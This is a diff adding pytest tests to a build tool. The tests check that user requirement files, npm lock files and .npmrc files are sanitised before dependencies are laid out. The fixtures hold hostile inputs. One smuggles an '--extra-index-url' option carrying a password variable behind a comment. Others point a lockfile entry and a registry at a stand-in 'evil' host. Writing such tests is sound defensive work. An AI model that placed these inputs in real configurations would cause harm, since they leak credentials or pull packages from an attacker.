@@ -2,11 +2,17 @@
 
 from __future__ import annotations
 
+import json
+from pathlib import Path
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from builder import dependencies
+from builder.context import MODIFIED
 from builder.requirements import MAX_BYTES, Pin, parse, render, restrict
+from builder.templates import find_template
 from core.errors import BuildFailed
 
 HASH = "sha256:" + "ab" * 32
@@ -134,3 +140,33 @@ def test_nothing_gets_through_that_does_not_come_back_the_same(data: bytes) -> N
     assert "://" not in written
     assert not any(line.startswith("-") for line in written.splitlines())
     assert render(parse(written.encode(), "again")) == written
+
+
+def test_an_image_installs_only_what_was_read(tmp_path: Path) -> None:
+    """What uv takes for an option here is a comment to us."""
+    own = tmp_path / "function"
+    own.mkdir()
+    (tmp_path / "requirements.txt").write_text("werkzeug==3.*\n")
+    (own / "requirements.txt").write_text(
+        f"six==1.17.0 --hash={HASH} # x \\\n--extra-index-url http://h/${{UV_INDEX_A_PASSWORD}}/\n"
+    )
+    dependencies.lay_out(find_template("python3-http"), tmp_path)
+    written = tmp_path / ".dependencies/requirements.txt"
+    assert written.read_text() == f"six==1.17.0 \\\n    --hash={HASH}\nwerkzeug==3.*\n"
+    assert {int(each.stat().st_mtime) for each in (written, written.parent, tmp_path)} == {MODIFIED}
+
+
+def test_npm_gets_a_lock_without_addresses_and_no_file_of_the_user(tmp_path: Path) -> None:
+    own = tmp_path / "function"
+    own.mkdir()
+    lock = {
+        "lockfileVersion": 3,
+        "packages": {"node_modules/a": {"version": "1.0.0", "resolved": "http://evil/a.tgz"}},
+    }
+    (own / "package.json").write_text('{"dependencies": {"a": "1"}, "scripts": {"install": "x"}}')
+    (own / "package-lock.json").write_text(json.dumps(lock))
+    (own / ".npmrc").write_text("registry=http://evil/\n")
+    dependencies.lay_out(find_template("node"), tmp_path)
+    written = {each.name: each.read_text() for each in (tmp_path / ".dependencies").iterdir()}
+    assert set(written) == {"package.json", "package-lock.json"}
+    assert not any("evil" in text or "install" in text for text in written.values())
